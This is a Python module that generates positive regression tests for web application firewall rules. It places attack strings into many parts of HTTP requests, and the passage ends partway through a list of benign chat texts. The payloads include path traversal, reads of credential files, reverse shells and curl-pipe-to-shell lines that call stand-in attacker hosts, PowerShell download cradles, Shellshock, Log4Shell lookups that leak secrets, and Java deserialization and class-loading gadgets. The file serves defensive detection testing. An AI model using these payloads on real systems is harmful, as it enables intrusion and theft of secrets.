"""Blind set "thirtyseventh": a rule author's positive tests.

The angle: for each detection idea, known to us only as the title of a WAF rule, the payloads a rule author
writes as the positive regression tests of a rule with that title: the canonical attack the title names, then
the variants a good rule with that title must still catch (other keywords of the family, other quoting, casing,
whitespace and comment substitutes, encodings a server decodes). Each payload goes into three places of a
request, rotating among the places such tests use: a query argument, a form body, a JSON body, a cookie value,
the User-Agent, the Referer, another request header, a query parameter name, an XML body, a multipart field or
file name, and the URL path (titles about headers stay in headers, uploads in file names, traversals out of the
path, which nginx normalises before any rule runs).

Families and sub-families (`sub` is a slug of the title):
- lfi: path traversal (/../), OS file access, restricted file access, OS file access in request headers;
- rfi: URL parameter using an IP address, common vulnerable parameter name with a URL, URL with a trailing
  question mark, off-domain reference;
- rce: Unix command injection (with and without evasion, with a pipe), Windows command injection, PowerShell,
  Unix shell expressions, Windows FOR/IF, direct Unix command execution, Unix shell code (in any part and in
  request headers), Shellshock, restricted file upload, bypass techniques, shell alias and history invocation,
  SQLite's .system/.shell, wildcard bypass;
- java: suspicious Java classes (two titles), process spawn (XStream, CVE-2017-9805), serialization gadgets
  (CVE-2015-4852), serialization magic bytes raw (percent-encoded) and in base64, suspicious Java methods,
  Log4j / Log4Shell lookups, malicious class loading.
Benign: developers pasting the same words into Slack (each text also saved as a profile bio), documentation
links, prose, names, addresses, searches, referring pages, uploads and XML documents that share the titles'
keywords.

Authorship and independence: every payload and text here was written from general knowledge and from the
detection titles above alone, without reading the repository's WAF rules, any ruleset's rule text or its
regression tests, other generators' payload lists or any public payload list. The set is measured once on the
unchanged code and not changed after seeing what is blocked. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import base64
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "thirtyseventh"

ALL = ["query", "form", "json", "cookie", "user-agent", "referer", "header", "query-name", "xml",
       "multipart-field", "multipart-filename", "path"]
NO_PATH = [p for p in ALL if p != "path"]
HEADERS_ONLY = ["user-agent", "referer", "header", "cookie"]
URL_PLACES = ["query", "form", "json", "multipart-field", "xml", "cookie"]
ARG_NAMES = ["q", "name", "file", "cmd", "data", "search", "path", "host", "id", "input"]
RFI_NAMES = ["page", "include", "file", "template", "path", "doc", "inc", "module", "view", "load"]
COMMON_RFI_NAMES = ["page", "include", "inc", "file", "template", "mod", "module", "path", "doc", "document",
                    "folder", "root", "pg", "style", "conf", "dir", "show", "site", "view", "content", "cat",
                    "prefix", "lang", "home"]
OTHER_HEADERS = ["X-Api-Version", "X-Client-Info", "X-Requested-With"]


def _ser(body: bytes) -> bytes:
    """A Java serialization stream: the magic and version, then `body`."""
    return b"\xac\xed\x00\x05" + body


def _pct(data: bytes) -> str:
    """Bytes percent-encoded as a client sends them in a query or form (printable ASCII kept)."""
    return "".join(chr(b) if 0x30 <= b < 0x7f and chr(b) not in "%&+=#?" else f"%{b:02X}" for b in data)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


HASHMAP = b"sr\x00\x11java.util.HashMapx\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthreshold"
LAZYMAP = b"sr\x00*org.apache.commons.collections.map.LazyMapn\xe5\x94\x82\x9ey\x10\x94\x03\x00\x01L\x00\x07factory"
ANNOT = b"sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L"
OBJARR = b"ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x02"
STRING = b"t\x00\x04test"
PRIOQ = b"sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparator"

XSTREAM = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
    "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding."
    "xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
    "NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi."
    "FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\">"
    "<command><string>touch</string><string>/tmp/pwned</string></command><redirectErrorStream>false"
    "</redirectErrorStream></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value>"
    "</jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference=\"../"
    "jdk.nashorn.internal.objects.NativeString\"/></entry></map>")

# (category, sub, places, parameter names, payloads)
TITLES: list[tuple[str, str, list[str], list[str], list[str]]] = [
    # (lfi) Path Traversal Attack (/../)
    ("lfi", "path-traversal", NO_PATH, ARG_NAMES, [
        "../../../../etc/passwd",
        "..\\..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/hosts",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fvar/log/auth.log",
        "%2e%2e/%2e%2e/%2e%2e/boot.ini",
        "..%5c..%5c..%5cwinnt%5csystem.ini",
        "%252e%252e%252f%252e%252e%252fetc%252fshadow",
        "..%c0%af..%c0%af..%c0%afetc/passwd",
        "/static/../../../app/config/database.yml",
        "images/..;/..;/WEB-INF/web.xml",
        ".././.././.././proc/self/environ",
        "..//..//..//etc//group",
        "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    ]),
    # (lfi) OS File Access Attempt
    ("lfi", "os-file-access", ALL, ARG_NAMES, [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "/proc/self/cmdline",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "/root/.ssh/id_rsa",
        "/home/ubuntu/.bash_history",
        "/var/log/apache2/access.log",
        "/etc/nginx/nginx.conf",
        "file:///etc/issue",
        "C:/boot.ini",
        "/etc/sudoers",
        "%2fetc%2fpasswd",
        "/etc/./passwd",
        "/ETC/PASSWD",
    ]),
    # (lfi) Restricted File Access Attempt
    ("lfi", "restricted-file", ["path", "query", "form", "json", "multipart-filename", "xml"], ARG_NAMES, [
        "/.git/HEAD",
        "/.git/config",
        "/.env",
        "/.htaccess",
        "/.htpasswd",
        "/web.config",
        "/WEB-INF/web.xml",
        "/.svn/entries",
        "/.DS_Store",
        "/wp-config.php.bak",
        "/.aws/credentials",
        "/.ssh/authorized_keys",
        "/.bash_history",
        "/.npmrc",
        "/.docker/config.json",
    ]),
    # (rfi) Possible Remote File Inclusion (RFI) Attack: URL Parameter using IP Address
    ("rfi", "url-ip-address", URL_PLACES, RFI_NAMES, [
        "http://192.0.2.10/shell.txt",
        "https://203.0.113.7/inc/cmd.php",
        "ftp://198.51.100.23/x.txt",
        "http://45.33.32.156:8080/r57.txt",
        "http://10.1.1.1/evil.php",
        "HTTP://192.168.0.5/a.inc",
        "http://[2001:db8::1]/x.txt",
        "\\\\198.51.100.4\\share\\x.php",
        "http://3232235777/x.txt",
        "//203.0.113.50/c99.txt",
        "https://0xc0a80001/payload",
        "http%3A%2F%2F203.0.113.9%2Fshell.txt",
    ]),
    # (rfi) ... Common RFI Vulnerable Parameter Name used w/URL Payload
    ("rfi", "common-param-url", ["query", "form", "json", "multipart-field", "xml"], COMMON_RFI_NAMES, [
        "http://evil.example.net/shell.txt",
        "https://attacker.example.org/r.php",
        "ftp://files.badhost.example/x.inc",
        "http://pastebin.example/raw/abcd1234",
        "https://raw.attacker.example/evil/main/s.php",
        "HTTPS://ATTACKER.EXAMPLE/INC.TXT",
        "ftps://attacker.example/inc/config.inc",
        "http://attacker.example:8000/c99.txt",
        "http%3a//attacker.example/shell.txt",
        "https://attacker.example/include.php%00",
        "http://attacker.example/x.jpg",
    ]),
    # (rfi) ... URL Payload Used w/Trailing Question Mark Character (?)
    ("rfi", "trailing-question-mark", URL_PLACES, RFI_NAMES, [
        "http://evil.example.net/shell.txt?",
        "https://attacker.example.org/c99.php??",
        "http://198.51.100.9/x.txt?",
        "ftp://badhost.example/inc.txt?",
        "http://attacker.example/r57.txt?&",
        "HTTPS://EVIL.EXAMPLE/S.TXT?",
        "http://attacker.example/x.txt%3f",
        "//attacker.example/shell.txt?",
        "http://attacker.example/cmd.txt?cmd=id?",
        "https://attacker.example:8443/a.php?",
        "http://user@attacker.example/x.inc?",
    ]),
    # (rfi) ... Off-Domain Reference/Link
    ("rfi", "off-domain-reference", URL_PLACES, RFI_NAMES, [
        "http://evil.example.net/",
        "https://attacker.example.org/payload.txt",
        "http://www.badsite.example/include.php",
        "ftps://files.attacker.example/a",
        "https://cdn.attacker.example/js/x.js",
        "http://user@attacker.example/x.txt",
        "HtTp://attacker.example/shell",
        "https://attacker.example:8443/s.php",
        "http://attacker.example.:80/x",
        "ftp://anonymous:guest@attacker.example/pub/x.txt",
        "https://localhost.attacker.example/inc",
    ]),
    # (rce) Remote Command Execution: Unix Command Injection
    ("rce", "unix-cmd-injection", ALL, ARG_NAMES, [
        ";cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(id)",
        "; ls -la /",
        "|| ping -c 3 203.0.113.5",
        "\nwget http://attacker.example/x -O /tmp/x",
        "a; nc -e /bin/sh 203.0.113.5 4444",
        "127.0.0.1; curl http://attacker.example/s.sh | sh",
        "x%0aid",
        "; /usr/bin/id",
        ";sleep 10;",
        "& ifconfig",
    ]),
    # (rce) Remote Command Execution: Windows Command Injection
    ("rce", "windows-cmd-injection", ALL, ARG_NAMES, [
        "& dir c:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user",
        "; ipconfig /all",
        "| whoami /priv",
        "& systeminfo",
        "&& cmd.exe /c ver",
        "| net localgroup administrators",
        "& tasklist /v",
        "%26 ping -n 5 127.0.0.1",
        "& certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
        "| reg query HKLM\\Software\\Microsoft",
        "&& CMD /C \"whoami\"",
    ]),
    # (rce) Remote Command Execution: Windows PowerShell Command Found
    ("rce", "powershell", ALL, ARG_NAMES, [
        "powershell -nop -c Get-Process",
        "powershell.exe -enc SQBFAFgAIAAoAGkAdwByACkA",
        "& pwsh -Command Invoke-WebRequest http://attacker.example/x",
        "; IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')",
        "| powershell Invoke-Expression whoami",
        "powershell -ExecutionPolicy Bypass -File C:\\temp\\x.ps1",
        "Start-Process cmd.exe -ArgumentList '/c whoami'",
        "Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
        "& PowerShell.exe -w hidden -noni -c iex(iwr http://attacker.example/p)",
        "Get-ChildItem C:\\Users -Recurse",
        "[System.Diagnostics.Process]::Start('calc')",
        "pOwErShElL -NoProfile -Command \"Get-Content C:\\secrets.txt\"",
    ]),
    # (rce) Remote Command Execution: Unix Shell Expression Found
    ("rce", "unix-shell-expression", ALL, ARG_NAMES, [
        "$(id)",
        "${IFS}",
        "$(cat /etc/passwd)",
        "`whoami`",
        "<(id)",
        ">(tee /tmp/x)",
        "$((1+1))",
        "${PATH:0:1}",
        "x$(sleep 5)x",
        "$( ls )",
        "${HOME}",
        "$(printf 'id'|sh)",
    ]),
    # (rce) Remote Command Execution: Windows FOR/IF Command Found
    ("rce", "windows-for-if", ALL, ARG_NAMES, [
        "for /f %i in ('whoami') do echo %i",
        "for /F \"tokens=*\" %a in ('dir /b') do type %a",
        "& FOR /L %i IN (1,1,100) DO ping -n 1 10.0.0.%i",
        "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
        "IF not exist x.txt echo vuln > x.txt",
        "for /r c:\\ %f in (*.config) do type %f",
        "|for /d %d in (C:\\*) do @echo %d",
        "& if defined USERNAME echo %USERNAME%",
        "for %x in (a b) do @cmd /c ver",
        "&& if %errorlevel% == 0 net user",
    ]),
    # (rce) Remote Command Execution: Direct Unix Command Execution
    ("rce", "direct-unix-command", ALL, ARG_NAMES, [
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la /var/www",
        "wget http://attacker.example/x.sh",
        "curl -s http://attacker.example/b | bash",
        "/bin/sh -c id",
        "nc -lvp 4444 -e /bin/bash",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "python3 -c 'import os;os.system(\"id\")'",
        "perl -e 'exec \"/bin/sh\"'",
        "ping -c 1 attacker.example",
        "chmod +x /tmp/x",
    ]),
    # (rce) Remote Command Execution: Unix Shell Code Found
    ("rce", "unix-shell-code", ALL, ARG_NAMES, [
        "/bin/bash -i",
        "/bin/sh",
        "/dev/tcp/203.0.113.5/4444",
        "/usr/bin/perl",
        "exec 5<>/dev/tcp/attacker.example/80",
        "/etc/init.d/ssh start",
        "/bin/busybox telnetd",
        "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242",
        "sh -i 2>&1 | nc 203.0.113.5 4444",
        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i",
        "/usr/bin/env python",
        "#!/bin/sh\nid",
    ]),
    # (rce) Remote Command Execution: Shellshock (CVE-2014-6271)
    ("rce", "shellshock", ["user-agent", "referer", "header", "cookie", "query", "form"], ARG_NAMES, [
        "() { :; }; /bin/bash -c id",
        "() { :;}; echo; /usr/bin/id",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; /bin/cat /etc/passwd",
        "() {:;}; wget http://attacker.example/x",
        "() { foo;};echo vulnerable",
        "() { :; };ping -c1 203.0.113.5",
        "(){ :; }; sleep 5",
        "() { ignored; }; /bin/sh -c 'curl http://attacker.example'",
        "()  {  :;  } ;  /bin/id",
    ]),
    # (rce) Restricted File Upload Attempt
    ("rce", "restricted-file-upload",
     ["multipart-filename", "header:X-File-Name", "query", "json", "multipart-filename", "form"],
     ["filename", "file", "upload", "attachment"], [
        ".htaccess",
        "web.config",
        ".user.ini",
        "php.ini",
        ".bashrc",
        "authorized_keys",
        ".htpasswd",
        "shell.php",
        "cmd.jsp",
        "x.phtml",
        "a.php5",
        "backdoor.asp;.jpg",
        "image.jpg.php",
        ".profile",
    ]),
    # (rce) RCE Bypass Technique
    ("rce", "bypass-technique", ALL, ARG_NAMES, [
        "c'a't /etc/passwd",
        "w\"h\"oami",
        "wh\\oami",
        "c$@at /etc/passwd",
        "who$()ami",
        "ca${x}t /etc/shadow",
        "{cat,/etc/passwd}",
        "cat${IFS}/etc/passwd",
        "; i''d",
        "l\\s -la",
        "$'\\x69\\x64'",
        "uname$IFS-a",
        "; w`echo h`oami",
    ]),
    # (java) Remote Command Execution: Suspicious Java class detected
    ("java", "rce-suspicious-java-class", ALL, ARG_NAMES, [
        "java.lang.Runtime",
        "java.lang.ProcessBuilder",
        "java.lang.reflect.Method",
        "javax.script.ScriptEngineManager",
        "java.net.URLClassLoader",
        "java.lang.System",
        "com.sun.rowset.JdbcRowSetImpl",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "java.io.FileInputStream",
        "javax.naming.InitialContext",
        "sun.misc.Unsafe",
        "java.lang.ProcessImpl",
    ]),
    # (java) Remote Command Execution: Java process spawn (CVE-2017-9805)
    ("java", "java-process-spawn", ["xml", "json", "form", "query", "multipart-field", "xml"], ARG_NAMES, [
        XSTREAM,
        "<java.lang.ProcessBuilder><command><string>calc</string></command></java.lang.ProcessBuilder>",
        "<next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></next>",
        "<command><string>/bin/sh</string><string>-c</string><string>id</string></command>",
        "new java.lang.ProcessBuilder(\"id\").start()",
        "java.lang.ProcessBuilder pb = new java.lang.ProcessBuilder(\"sh\", \"-c\", \"id\"); pb.start();",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "Runtime.getRuntime().exec(\"/bin/sh -c id\")",
        "<next class='java.lang.ProcessBuilder'><command><string>wget</string>"
        "<string>http://attacker.example/x</string></command></next>",
        "new ProcessBuilder(new String[]{\"cmd.exe\", \"/c\", \"whoami\"}).start()",
    ]),
    # (java) Remote Command Execution: Java serialization (CVE-2015-4852)
    ("java", "java-serialization", ALL, ARG_NAMES, [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "org.apache.commons.collections.functors.ConstantTransformer",
        "org.apache.commons.collections.map.LazyMap",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.apache.commons.collections4.functors.InstantiateTransformer",
        "org.apache.commons.collections.keyvalue.TiedMapEntry",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "ysoserial.payloads.CommonsCollections1",
        "javax.management.BadAttributeValueExpException",
        _pct(_ser(LAZYMAP)),
        _pct(_ser(ANNOT)),
    ]),
    # (java) Suspicious Java class detected
    ("java", "suspicious-java-class", ALL, ARG_NAMES, [
        "java.lang.Class.forName",
        "java.lang.ClassLoader",
        "java.lang.Thread",
        "java.io.File",
        "java.beans.XMLDecoder",
        "javax.management.remote.JMXServiceURL",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
        "com.sun.jndi.ldap.LdapCtx",
        "java.rmi.registry.Registry",
        "bsh.Interpreter",
        "groovy.lang.GroovyShell",
        "org.codehaus.groovy.runtime.MethodClosure",
    ]),
    # (java) Magic bytes Detected, probable java serialization in use
    ("java", "magic-bytes", ["query", "form", "cookie", "query-name"], ARG_NAMES, [
        _pct(_ser(HASHMAP)),
        _pct(_ser(STRING)),
        _pct(_ser(OBJARR)),
        _pct(_ser(ANNOT)),
        _pct(_ser(PRIOQ)),
        "%ac%ed%00%05sr%00%0ejava.lang.Long",
        "%AC%ED%00%05",
        "%AC%ED%00%05w%04%00%00%00%01",
        "aced0005737200116a6176612e7574696c2e486173684d6170",
        "ACED0005740004746573",
    ]),
    # (java) Magic bytes Detected Base64 Encoded, probable java serialization in use
    ("java", "magic-bytes-base64", ["cookie", "query", "form", "json", "header", "xml", "multipart-field"],
     ["data", "state", "token", "viewstate", "session", "obj"], [
        _b64(_ser(HASHMAP)),
        _b64(_ser(STRING)),
        _b64(_ser(OBJARR)),
        _b64(_ser(LAZYMAP)),
        _b64(_ser(PRIOQ)),
        _b64(b"x" + _ser(HASHMAP)),
        _b64(b"xy" + _ser(STRING)),
        _b64(_ser(ANNOT)).replace("+", "-").replace("/", "_").rstrip("="),
        "rO0ABQ==",
        "H4sIAAAAAAAA/" + _b64(_ser(STRING))[:8],
        "javax.faces.ViewState=" + _b64(_ser(OBJARR)),
    ]),
    # (java) Remote Command Execution: Suspicious Java method detected
    ("java", "suspicious-java-method", ALL, ARG_NAMES, [
        "${Runtime.getRuntime().exec('id')}",
        "x.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)",
        "Class.forName(\"javax.script.ScriptEngineManager\").newInstance()",
        "request.getClass().getClassLoader().loadClass(\"Exploit\")",
        "field.setAccessible(true); field.set(null, obj)",
        "ObjectInputStream ois = new ObjectInputStream(in); ois.readObject();",
        "unsafe.defineClass(\"X\", b, 0, b.length, null, null)",
        "Thread.currentThread().getContextClassLoader()",
        "String.class.getMethod(\"valueOf\", int.class).invoke(null, 1)",
        "java.lang.System.setSecurityManager(null)",
        "c.getDeclaredConstructor().newInstance()",
        "getRuntime ( ) . exec ( \"whoami\" )",
    ]),
    # (lfi) OS File Access Attempt in request headers
    ("lfi", "os-file-access-headers", HEADERS_ONLY, ARG_NAMES, [
        "/etc/passwd",
        "../../../../etc/passwd",
        "/proc/self/environ",
        "c:\\windows\\win.ini",
        "/etc/shadow",
        "file:///etc/hosts",
        "/var/log/nginx/access.log",
        "..\\..\\..\\boot.ini",
        "/root/.ssh/id_rsa",
        "/proc/version",
        "http://example.com/download?file=../../../etc/group",
    ]),
    # (rce) Remote Command Execution: Unix Command Injection with pipe
    ("rce", "unix-cmd-pipe", ALL, ARG_NAMES, [
        "| cat /etc/passwd",
        "x|id",
        "|| whoami",
        "a | nc 203.0.113.5 4444",
        "| ls -la",
        "foo|uname -a",
        "|curl http://attacker.example/x|sh",
        "| base64 -d | sh",
        "test|sleep 5",
        "|/bin/id",
        "1 | tee /tmp/pwn",
        "abc%7cid",
    ]),
    # (rce) Remote Command Execution: Unix Command Injection (command without evasion)
    ("rce", "unix-cmd-no-evasion", ALL, ARG_NAMES, [
        "; cat /etc/passwd",
        "& id",
        "&& uname -a",
        "; ls /",
        "| whoami",
        "; ps aux",
        "& netstat -an",
        "; env",
        "&& ifconfig",
        "; wget http://attacker.example/a",
        "; rm -rf /tmp/x",
        "; find / -perm -4000",
    ]),
    # (rce) Remote Command Execution: Unix shell alias invocation
    ("rce", "unix-alias", ALL, ARG_NAMES, [
        "; alias",
        "; alias -p",
        "alias ll='ls -la'; ll",
        "& alias pwn=\"cat /etc/passwd\"; pwn",
        "| unalias -a",
        "$(alias)",
        "`alias`",
        "; alias sudo='sh -c id'",
        "&&alias x='curl attacker.example|sh';x",
        "; \\alias",
    ]),
    # (rce) Remote Command Execution: Unix shell history invocation
    ("rce", "unix-history", ALL, ARG_NAMES, [
        "; !!",
        "| !-2",
        "$(!!)",
        "; history | tail",
        "; history -c",
        "; !cat",
        "`!-1`",
        "; fc -s",
        "x;!!:p",
        "&& history",
    ]),
    # (rce) Remote Command Execution: SQLite System Command Execution (.system, .shell)
    ("rce", "sqlite-system", ALL, ARG_NAMES, [
        ".system id",
        ".shell cat /etc/passwd",
        "; .system whoami",
        "\n.shell ls -la",
        ".system curl http://attacker.example/x",
        ".SHELL id",
        "select 1;\n.system uname -a",
        ".shell /bin/sh -c 'id'",
        ".system 'ls /'",
        "  .shell id",
    ]),
    # (rce) Remote Command Execution: Wildcard bypass technique attempt
    ("rce", "wildcard-bypass", ALL, ARG_NAMES, [
        "/???/??t /???/p??s??",
        "/bin/c?t /etc/pa*",
        "/u?r/b?n/w?oami",
        "; cat /et*/pas*",
        "/???/?s -la",
        "/b[i]n/c[a]t /etc/passwd",
        "/???/n? -e /???/b??h 203.0.113.5 4444",
        "cat /e??/s?a?o?",
        "; /*/bin/id",
        "ls /*/*/conf*",
    ]),
    # (rce) Remote Command Execution: Unix Shell Code Found in REQUEST_HEADERS
    ("rce", "unix-shell-code-headers", HEADERS_ONLY, ARG_NAMES, [
        "/bin/bash -c 'id'",
        "() { :;}; /bin/sh",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "/bin/sh -c 'wget http://attacker.example/x -O- | sh'",
        "nc -e /bin/sh 203.0.113.5 4444",
        "/usr/bin/python -c 'import pty;pty.spawn(\"/bin/sh\")'",
        "$(/bin/cat /etc/passwd)",
        "`/usr/bin/id`",
        "/dev/tcp/10.0.0.1/8080",
        "Mozilla/5.0 ; /bin/bash -c 'curl attacker.example|sh'",
    ]),
    # (java) Potential Remote Command Execution: Log4j / Log4shell
    ("java", "log4j", ALL, ARG_NAMES, [
        "${jndi:ldap://attacker.example/a}",
        "${jndi:rmi://203.0.113.5:1099/obj}",
        "${jndi:dns://attacker.example}",
        "${${lower:j}ndi:ldap://attacker.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/x}",
        "${jNdI:LdAp://attacker.example/x}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://attacker.example/x}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}",
        "${${upper:j}ndi:${upper:l}dap://attacker.example/x}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/}",
        "${ctx:loginId}${jndi:nis://attacker.example/x}",
        "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    ]),
    # (java) Remote Command Execution: Malicious class-loading payload
    ("java", "malicious-class-loading", ALL, ARG_NAMES, [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        "class.classLoader.resources.dirContext.docBase=/tmp",
        "class.module.classLoader.URLs[0]=http://attacker.example/x.jar",
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
        ".loadClass(\"Exploit\").newInstance()",
        "Thread.currentThread().getContextClassLoader().loadClass(\"Evil\")",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
        "defineClass(\"Evil\", bytes, 0, bytes.length)",
        "javax.management.loading.MLet",
        "ClassLoader.getSystemClassLoader().loadClass(\"x\")",
        "com.sun.org.apache.bcel.internal.util.ClassLoader",
        "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A",
        "{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":"
        "\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"$$BCEL$$$l$8b\"}",
    ]),
]

ENCODED = re.compile(r"%(?:[0-9A-Fa-f]{2}|u[0-9A-Fa-f]{4})")
BOUNDARY = "----thirtyseventhFormBoundary7MA4YWxk"


def _raw(value: str) -> str:
    """A value already percent-encoded by its author, made URI-safe without encoding it twice."""
    return urllib.parse.quote(value, safe="%/:@!$'()*,;~=[]{}|\\^`\"<>")


def _header_value(value: str) -> str:
    """A header value as a client can send it: no CR, LF or NUL (nginx refuses them), ASCII."""
    value = value.replace("\r", " ").replace("\n", " ").replace("\0", " ")
    return value if value.isascii() else urllib.parse.quote(value, safe=" /:;=,?&()'\"{}$|!*<>\\")


def _headers(**extra: str) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "application/json", **extra}


def _multipart(name: str, value: str, filename: str | None = None) -> dict[str, Any]:
    if filename is None:
        part = f"Content-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
    else:
        safe = filename.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")
        part = (f"Content-Disposition: form-data; name=\"{name}\"; filename=\"{safe}\"\r\n"
                "Content-Type: application/octet-stream\r\n\r\nhello world\r\n")
    body = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"email\"\r\n\r\na@example.org\r\n"
            f"--{BOUNDARY}\r\n{part}--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": _headers(**{"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}


def _xml(name: str, value: str) -> dict[str, Any]:
    if re.match(r"<[A-Za-z]", value):
        body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + value
    else:
        body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><email>a@example.org</email>"
                f"<{name}>{escape(value)}</{name}></user>")
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": _headers(**{"Content-Type": "text/xml; charset=utf-8"})}


def place(where: str, name: str, value: str, i: int) -> dict[str, Any]:
    """The request carrying `value` at `where` (under parameter name `name`)."""
    encoded = bool(ENCODED.search(value))
    if where == "query":
        if encoded:
            return _get(f"/api/users?{name}={_raw(value).replace('&', '%26')}&page=1")
        return _place("query", name, value)
    if where == "form":
        if encoded:
            return {**_form("/admin/users/search", []),
                    "body": f"csrf_token=t0k3n&{name}={_raw(value).replace('&', '%26')}"}
        return _place("form", name, value)
    if where == "json":
        return _place("json", name, value)
    if where == "cookie":
        cookie = _raw(value).replace(";", "%3B") if encoded else urllib.parse.quote(value)
        return {**_get("/api/users?page=1"), "headers": _headers(Cookie=f"session=abc123; {name}={cookie}")}
    if where == "user-agent":
        return {**_get("/api/users?page=1"), "headers": _headers(**{"User-Agent": _header_value(value)})}
    if where == "referer":
        return {**_get("/api/users?page=1"), "headers": _headers(Referer=_header_value(value))}
    if where.startswith("header"):
        header = where.split(":", 1)[1] if ":" in where else OTHER_HEADERS[i % len(OTHER_HEADERS)]
        return {**_get("/api/users?page=1"), "headers": _headers(**{header: _header_value(value)})}
    if where == "query-name":
        key = _raw(value) if encoded else urllib.parse.quote(value, safe="")
        return _get(f"/api/users?{key.replace('&', '%26').replace('=', '%3D')}=1&page=1")
    if where == "xml":
        return _xml(name if name.isidentifier() else "value", value)
    if where == "multipart-field":
        return _multipart(name, value)
    if where == "multipart-filename":
        return _multipart("upload", "", filename=value)
    if where == "path":
        seg = _raw(value) if encoded else urllib.parse.quote(value.lstrip("/"), safe="/")
        return _get("/api/users/" + seg.lstrip("/"))
    raise ValueError(where)


def placements(t: int, i: int, p: str, pool: list[str]) -> list[str]:
    """Three places of the title's pool for its i-th payload, rotating; a traversal never in the path."""
    usable = [w for w in pool if not (w == "path" and (".." in p or "\n" in p))]
    out: list[str] = []
    k = 0
    while len(out) < 3 and k < 3 * len(usable):
        w = usable[(t + 3 * i + k) % len(usable)]
        if w not in out:
            out.append(w)
        k += 1
    return out


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, pool, names, payloads) in enumerate(TITLES):
        for i, p in enumerate(payloads):
            for k, where in enumerate(placements(t, i, p, pool)):
                n += 1
                name = names[(i + k) % len(names)]
                label = where.split(":")[0] if not where.startswith("header:") else where
                yield {**place(where, name, p, i + k), "id": f"{NAME}-{category}-{sub}-{n:04d}",
                       "category": category, "sub": sub, "placement": label, "payload": p}


# Benign: the same words, innocently.
SLACK_TEXTS = [
    "the deploy script reads /etc/hosts on the build box, that's why the staging names resolve",
    "don't commit the .env file again please, it's in .gitignore for a reason",
    "our nginx config has `location ~ /\\.git { deny all; }` now",
    "the path traversal fix landed, thanks for the review",
    "use os.path.join and never concatenate ../ yourself",
    "powershell 7 is on the windows runners, so Get-ChildItem works in CI",
    "I ran Get-Process on the build agent, nothing stuck",
    "the for loop in the batch file was the problem, fixed the quoting",
    "if exist checks in the installer are gone, we use msiexec now",
